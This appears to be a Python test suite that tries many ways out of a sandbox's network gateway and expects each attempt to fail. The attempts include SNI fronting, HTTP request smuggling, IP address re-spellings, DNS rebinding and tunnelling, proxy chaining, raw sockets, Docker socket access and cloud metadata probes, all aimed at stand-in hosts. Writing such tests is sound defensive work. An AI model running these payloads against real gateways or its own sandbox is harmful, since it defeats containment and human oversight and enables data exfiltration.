"""Ways past the gateway, tried from inside as root. What is reached answers REACHED; everything here must fail."""
import ctypes, os, socket, struct, subprocess, urllib.request
from wire import *

# Hosts of an internet that answers at every address: this one is in no rule.
STRANGER = '45.9.9.9'
attempt = Attempts()


def reach(host, port=80):
    return talk(host, port, b'GET / HTTP/1.1\r\nHost: stranger.example\r\n\r\n')


def curl(*args):
    run = subprocess.run(['curl', '-sS', '-i', '--max-time', '20', *args], capture_output=True, text=True)
    return run.stdout or f'curl {run.returncode}: {run.stderr}'


@attempt('unset proxy variables')
def without_variables():
    run = subprocess.run(['curl', '-sS', 'http://stranger.example/'], env={'PATH': os.environ['PATH']}, capture_output=True, text=True)
    return run.stdout or f'curl {run.returncode}: {run.stderr}'


@attempt('--connect-to and --resolve to another address')
def connect_to():
    return [
        curl('--resolve', f'allowed.example:80:{STRANGER}', 'http://allowed.example/'),
        curl('--connect-to', f'allowed.example:80:{STRANGER}:80', 'http://allowed.example/'),
    ]


@attempt('IP literal')
def literal():
    return each(reach, [STRANGER, '45.1.0.1', '45.1.0.2', '2a0f::9', '0.0.0.0', '255.255.255.255'])


@attempt('hard-coded IP with allowed SNI')
def allowed_sni_elsewhere():
    return talk(STRANGER, 443, client_hello(server_name(b'allowed.example')))


@attempt('SNI is not Host (fronting)')
def fronting():
    return [
        talk_tls('rules.example', 443, b'GET /open/a HTTP/1.1\r\nHost: stranger.example\r\n\r\n'),
        talk('allowed.example', 80, b'GET / HTTP/1.1\r\nHost: stranger.example\r\n\r\n'),
        *each(lambda name: talk('allowed.example', 443, client_hello(server_name(name))),
              [b'stranger.example', b'allowed.example\0.stranger.example', b'allowed.example.stranger.example', b'*.example']),
    ]


@attempt('no SNI')
def no_sni():
    return each(lambda *e: talk('allowed.example', 443, client_hello(*e)), [(), (server_name(b''),)])


@attempt('ECH')
def encrypted_hello():
    return talk('allowed.example', 443, client_hello(server_name(b'allowed.example'), ENCRYPTED_HELLO))


@attempt('no SNI')
def two_names():
    two = extension(0, vector(2, b'\0' + vector(2, b'allowed.example') + b'\0' + vector(2, b'stranger.example')))
    again = (server_name(b'allowed.example'), server_name(b'stranger.example'))
    return each(lambda *e: talk('allowed.example', 443, client_hello(*e)), [(two,), again])


@attempt('duplicate Host')
def duplicate_host():
    text = b'GET /open/a HTTP/1.1\r\nHost: rules.example\r\nHost: stranger.example\r\n\r\n'
    return [talk_tls('rules.example', 443, text), talk('rules.example', 80, text)]


@attempt('absolute-form target to another host')
def absolute_form():
    return [
        talk('allowed.example', 80, b'GET http://stranger.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n'),
        talk_tls('rules.example', 443, b'GET https://stranger.example/open/a HTTP/1.1\r\nHost: rules.example\r\n\r\n'),
        talk_tls('rules.example', 443, b'GET https://rules.example@stranger.example/ HTTP/1.1\r\nHost: rules.example\r\n\r\n'),
    ]


@attempt('HTTP/2 :authority is not SNI')
def other_authority():
    block = request_headers(b'stranger.example', b'/open/a')
    host = request_headers(b'rules.example', b'/open/a', b'GET', (b'host', b'stranger.example'))
    both = END_HEADERS | END_STREAM
    return [talk_http2('rules.example', 443, frame(HEADERS, both, 1, headers)) for headers in (block, host)]


@attempt('NUL, trailing dot, mixed case, IDN, look-alike, wildcard apex')
def strange_names():
    return each(ask_dns, [
        (b'stranger', b'example\0', b'wild', b'example'),
        (b'stranger.example', b'wild', b'example'),
        (b'a\0b', b'wild', b'example'),
        (b'STRANGER', b'Example'),
        ('\u0430llowed'.encode(), b'example'),
        (b'xn--llowed-1nf', b'example'),
        (b'allowed\xe3\x80\x82example',),
        (b'wild', b'example'),
        (b'evilwild', b'example'),
        (b'*', b'wild', b'example'),
        (b'-', b'wild', b'example'),
        (b'x' * 63, b'y' * 63, b'z' * 63, b'z' * 63, b'wild', b'example'),
        (b'allowed', b'example', b'stranger', b'example'),
    ])


@attempt('NUL, trailing dot, mixed case, IDN, look-alike, wildcard apex')
def strange_names_of_programs():
    names = ['stranger.example.', 'STRANGER.example', 'wild.example', '\u24d0llowed.example.stranger.example']
    return each(lambda name: socket.getaddrinfo(name, 80), names)


@attempt('decimal, octal, mapped addresses, NAT64, 6to4')
def spellings():
    return each(reach, ['755566857', '0x2d090909', '055.011.011.011', '45.9.2313', '::ffff:45.9.9.9', '::45.9.9.9',
                        '64:ff9b::2d09:909', '2002:2d09:909::1'])


@attempt('decimal, octal, mapped addresses, NAT64, 6to4')
def spellings_of_names():
    return each(lambda *labels: ask_dns(*labels), [(b'755566857',), (b'0x2d090909',), (b'45', b'9', b'9', b'9')])


@attempt('an allowed name leads to loopback, private, metadata, own interface')
def bad_addresses():
    kinds = ['loopback', 'zero', 'private', 'carrier', 'metadata', 'unique', 'mapped', 'nat64', 'sixtofour', 'own', 'ownpublic']
    return each(lambda kind: talk(f'{kind}.inner.example', 80, b'hello'), kinds)


@attempt('rebinding between check and dial')
def rebinding():
    return each(lambda _: talk('rebind.example', 8000, b'REACHED through the first answer'), range(3))


@attempt('DNS to another resolver (53, 853), DoH, DoQ')
def other_resolvers():
    name = (b'allowed', b'example')
    return [
        *each(lambda over: ask_dns(*name, server=STRANGER, over=over), ['udp', 'tcp']),
        *each(reach, [(STRANGER, 853), (STRANGER, 443)]),
        *each(lambda _: datagram(STRANGER, 853), [0]),
        *each(lambda _: urllib.request.urlopen('https://dns.stranger.example/dns-query').read(), [0]),
    ]


def datagram(host, port, data=b'hello'):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect((host, port))
        sock.send(data)
        return sock.recv(100).decode()


@attempt('UDP and QUIC')
def datagrams():
    inside = socket.gethostbyname('allowed.example')
    return each(datagram, [(STRANGER, 443), (STRANGER, 4433), (inside, 443), ('45.1.0.2', 53), ('255.255.255.255', 67)])


@attempt('ICMP')
def echo_request():
    def ping(kind):
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
            sock.settimeout(2)
            sock.sendto(b'\x08\0\xf7\xff\0\0\0\0', (STRANGER, 0))
            return f'REACHED {sock.recv(100)!r}'
    return each(ping, [socket.SOCK_DGRAM, socket.SOCK_RAW])


@attempt('raw and packet sockets')
def raw():
    def packets(kind):
        with socket.socket(socket.AF_PACKET, kind, socket.htons(3)) as sock:
            sock.bind(('lo', 0))
            names = [name for _, name in socket.if_nameindex()]
            return f'devices {names}' if set(names) - {'lo', 'sit0'} else 'only loopback'
    def header():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
            sock.sendto(b'E\0\0\x1c\0\0\0\0@\x11\0\0' + socket.inet_aton('45.1.0.2') + socket.inet_aton(STRANGER) + b'\0\1\0\1\0\x08\0\0', (STRANGER, 0))
            return 'REACHED'
    return each(packets, [socket.SOCK_RAW, socket.SOCK_DGRAM]) + each(lambda _: header(), [0])


@attempt('AF_UNIX to daemons of the host')
def unix_sockets():
    def meet(path):
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect(path)
            return 'REACHED'
    return each(meet, [os.environ['HOST_SOCKET'], '/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket'])


@attempt('abstract sockets')
def abstract():
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect('\0' + os.environ['HOST_ABSTRACT'])
        return 'REACHED'


@attempt('AF_VSOCK')
def vsock():
    def meet(context):
        with socket.socket(40, socket.SOCK_STREAM) as sock:
            sock.settimeout(3)
            sock.connect((context, 1024))
            return 'REACHED'
    return each(meet, [(1,), (2,), (3,)])


@attempt('io_uring sockets')
def ring():
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.syscall(425, 4, ctypes.create_string_buffer(120))
    return 'a ring' if got >= 0 else os.strerror(ctypes.get_errno())


@attempt('inherited descriptors')
def inherited():
    run = subprocess.run(['ls', '-l', '/proc/self/fd'], capture_output=True, text=True)
    return 'REACHED ' + run.stdout if 'socket:' in run.stdout else 'no sockets'


@attempt('HTTP CONNECT or SOCKS chained through an allowed proxy')
def chained():
    tunnel = b'CONNECT stranger.example:80 HTTP/1.1\r\nHost: stranger.example:80\r\n\r\n'
    five = b'\5\1\0' + b'\5\1\0\1' + socket.inet_aton(STRANGER) + struct.pack('>H', 80)
    four = b'\4\1' + struct.pack('>H', 80) + socket.inet_aton(STRANGER) + b'me\0'
    return [
        talk('proxy.example', 3128, tunnel),
        talk('proxy.example', 3128, b'GET http://stranger.example/ HTTP/1.1\r\nHost: stranger.example\r\n\r\n'),
        *each(lambda data: talk('proxy.example', 1080, data), [five, four, b'\5\2\0\2']),
        *each(slowly, [five, four]),
    ]


def slowly(data):
    with connect('proxy.example', 1080) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in data: sock.sendall(bytes([byte]))
        return heard(sock).decode('latin1')


OWN_PROXY = ('proxy.hearth.internal', 3128)
GET = b'GET / HTTP/1.1\r\nHost: stranger.example\r\n\r\n'


def through_proxy(target, data=GET):
    with connect(*OWN_PROXY) as sock:
        sock.sendall(b'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target))
        head = heard(sock)
        if not head.startswith(b'HTTP/1.1 200 '): return head.decode('latin1')
        sock.sendall(data)
        return heard(sock).decode('latin1')


@attempt('through the proxy of the sandbox itself')
def own_proxy_tunnels():
    return each(through_proxy, [
        b'stranger.example:80', b'stranger.example:443', STRANGER.encode() + b':80', b'allowed.example:22', b'allowed.example:7420',
        b'127.0.0.1:80', b'localhost:7420', b'0.0.0.0:80', b'[::1]:80', b'[::ffff:45.9.9.9]:80', b'755566857:80', b'0x2d090909:80',
        b'055.011.011.011:80', b'proxy.hearth.internal:3128', b'hearth.internal:80', b'allowed.example:80@stranger.example:80',
        b'allowed.example\0.stranger.example:80', b'allowed.example:80 stranger.example:80', b'169.254.169.254:80',
        *(kind + b'.inner.example:80' for kind in [b'loopback', b'zero', b'private', b'carrier', b'metadata', b'unique', b'mapped', b'own', b'ownpublic']),
    ])


@attempt('through the proxy of the sandbox itself')
def own_proxy_inside():
    return [
        through_proxy(b'allowed.example:80'),
        through_proxy(b'rules.example:80', b'GET /shut HTTP/1.1\r\nHost: rules.example\r\n\r\n'),
        through_proxy(b'allowed.example:80', b'CONNECT stranger.example:80 HTTP/1.1\r\nHost: stranger.example:80\r\n\r\n'),
        *each(lambda *e: through_proxy(b'allowed.example:443', client_hello(*e)), [(), (server_name(b'stranger.example'),)]),
    ]


@attempt('through the proxy of the sandbox itself')
def own_proxy_requests():
    def ask(target, host, more=b'', rest=b''):
        return talk(*OWN_PROXY, b'GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n%s' % (target, host, more, rest))
    return [
        ask(b'http://stranger.example/', b'stranger.example'),
        ask(b'http://stranger.example/', b'allowed.example'),
        ask(b'http://allowed.example/', b'stranger.example'),
        ask(b'http://allowed.example/', b'allowed.example', b'Host: stranger.example\r\n'),
        ask(b'http://allowed.example@stranger.example/', b'stranger.example'),
        ask(b'http://%s/' % STRANGER.encode(), STRANGER.encode()),
        ask(b'http://169.254.169.254/', b'169.254.169.254'),
        ask(b'http://proxy.hearth.internal:3128/', b'proxy.hearth.internal:3128'),
        ask(b'https://allowed.example/', b'allowed.example'),
        ask(b'//stranger.example/', b'allowed.example'),
        ask(b'/', b'allowed.example'),
        ask(b'http://rules.example/shut', b'rules.example'),
        ask(b'http://rules.example/open/../shut', b'rules.example'),
        ask(b'http://allowed.example/', b'allowed.example', b'Content-Length: 3\r\nTransfer-Encoding: chunked\r\n'),
        ask(b'http://stranger.example/', b'stranger.example', b'', b'GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n'),
        ask(b'http://allowed.example/', b'allowed.example', b'x: ' + b'x' * 20000 + b'\r\n'),
        talk(*OWN_PROXY, b'\x05\x01\x00\r\n\r\n'),
        talk(*OWN_PROXY, client_hello(server_name(b'allowed.example')) + b'\r\n\r\n'),
    ]


@attempt('redirects')
def redirects():
    return each(lambda to: curl('-L', f'http://allowed.example/redirect?to={to}'),
                ['http://stranger.example/', f'http://{STRANGER}/', 'http://metadata.inner.example/', 'file:///etc/hostname'])


POST = b'POST /open/a HTTP/1.1\r\nHost: rules.example\r\n'
HIDDEN = b'GET /closed HTTP/1.1\r\nHost: stranger.example\r\n\r\n'


@attempt('request smuggling')
def smuggling():
    length = b'Content-Length: %d\r\n' % (len(HIDDEN) + 5)
    chunked = b'Transfer-Encoding: chunked\r\n'
    return each(lambda text: talk('rules.example', 80, text), [
        POST + length + chunked + b'\r\n0\r\n\r\n' + HIDDEN,
        POST + length + b'Content-Length: 0\r\n\r\n' + HIDDEN,
        POST + b'Content-Length: 0, 50\r\n\r\n' + HIDDEN,
        POST + b'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n' + HIDDEN,
        POST + b'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n' + HIDDEN,
        POST + b'Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n' + HIDDEN,
        POST + b'X: a\r\n Transfer-Encoding: chunked\r\n\r\n' + HIDDEN,
        POST + chunked + b'\r\n0;\n\r\n' + HIDDEN,
        POST + chunked + b'\r\n-1\r\n' + HIDDEN,
        b'POST /open/a HTTP/1.1\nHost: rules.example\n\n' + HIDDEN,
    ])


@attempt('pipelining')
def pipelining():
    good = b'GET /open/a HTTP/1.1\r\nHost: rules.example\r\n\r\n'
    bad = b'GET /closed HTTP/1.1\r\nHost: rules.example\r\nConnection: close\r\n\r\n'
    with open_tls('rules.example', 443) as sock:
        sock.sendall(good + bad)
        got = b''
        while part := sock.recv(65536): got += part
    return got.decode('latin1').rpartition('HTTP/1.1 ')[2]


@attempt('oversized heads')
def oversized():
    head = b'GET /open/a HTTP/1.1\r\nHost: rules.example\r\n'
    return each(lambda text: talk('rules.example', 80, text), [
        head + b'X: ' + b'x' * 200_000 + b'\r\n\r\n',
        head + b'X: 1\r\n' * 400 + b'\r\n',
        b'GET /open/' + b'x' * 200_000 + b' HTTP/1.1\r\nHost: rules.example\r\n\r\n',
    ])


@attempt('HTTP/2 stream floods')
def floods():
    both = END_HEADERS | END_STREAM
    ask = request_headers(b'rules.example', b'/open/slow')
    many = [frame(HEADERS, both, 1 + 2 * n, ask) for n in range(300)]
    rapid = [frame(HEADERS, both, 1 + 2 * n, ask) + frame(RESET, 0, 1 + 2 * n, b'\0\0\0\x08') for n in range(2000)]
    return [talk_http2('rules.example', 443, *frames) for frames in (many, rapid)]


@attempt('DATA before HEADERS')
def data_first():
    return [
        talk_http2('rules.example', 443, frame(DATA, END_STREAM, 1, b'hello')),
        talk_http2('rules.example', 443, frame(HEADERS, END_STREAM, 1, b''), frame(DATA, 0, 1, b'x')),
    ]


@attempt('path ambiguity against path rules')
def ambiguous_paths():
    paths = [b'/open/../closed', b'/open/%2e%2e/closed', b'/open/%2E%2e%2fclosed', b'/open\\..\\closed', b'//closed', b'/open//../closed',
             b'/open/..;/closed', b'/open/..%3b/closed', b'/%6fpen/../closed', b'/open/%252e%252e/closed', b'/open/.%00./closed', b'/closed?/open/', b'/closed#/open/']
    return each(lambda path: talk('rules.example', 80, b'GET %s HTTP/1.1\r\nHost: rules.example\r\n\r\n' % path), paths)


@attempt('path ambiguity against path rules')
def methods():
    lines = [b'POST /open/a', b'get /open/a', b'TRACE /open/a', b'TRACK /open/a', b'DELETE /open/a']
    head = b'Host: rules.example\r\nX-HTTP-Method-Override: GET\r\nContent-Length: 0\r\n\r\n'
    return each(lambda line: talk('rules.example', 80, line + b' HTTP/1.1\r\n' + head), lines)


UPGRADE = b'Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'


@attempt('WebSocket upgrade')
def upgrades():
    def ask(path, host, to):
        return talk('rules.example', 80, b'GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: %s\r\n' % (path, host, to) + UPGRADE)
    extended = literals([(b':method', b'CONNECT'), (b':protocol', b'websocket'), (b':scheme', b'https'), (b':authority', b'rules.example'), (b':path', b'/closed')])
    return [
        ask(b'/closed', b'rules.example', b'websocket'),
        ask(b'/open/a', b'stranger.example', b'websocket'),
        talk_http2('rules.example', 443, frame(HEADERS, END_HEADERS, 1, extended)),
    ]


@attempt('WebSocket upgrade')
def other_upgrades():
    # An answer of the server as to any request: nothing was switched.
    said = talk('rules.example', 80, b'GET /open/a HTTP/1.1\r\nHost: rules.example\r\nUpgrade: raw\r\nConnection: Upgrade\r\n\r\n')
    return 'REACHED' if ' 101 ' in said.splitlines()[0] else 'not switched'


@attempt('DNS tunnelling')
def tunnel():
    stolen = [(b'stolen-%d' % n, b'stranger', b'example') for n in range(20)]
    for n in range(20): ask_dns(b'stolen-%d' % n, b'wild', b'example')
    return sorted(set(each(ask_dns, stolen)))


@attempt('metadata addresses of every cloud')
def metadata():
    addresses = ['169.254.169.254', '169.254.170.2', '169.254.170.23', '169.254.0.23', '100.100.100.200', '192.0.0.192', '168.63.129.16', 'fd00:ec2::254', 'fd20:ce::254']
    names = ['metadata.google.internal', 'metadata', 'instance-data.ec2.internal', 'metadata.tencentyun.com']
    return each(reach, addresses + names)


@attempt('the policy API itself')
def policy_api():
    return each(reach, [('127.0.0.1', 7420), ('localhost', 7420), ('::1', 7420), ('45.1.0.2', 7420), ('loopback.inner.example', 7420), ('127.0.0.53', 7420)])


attempt.run()
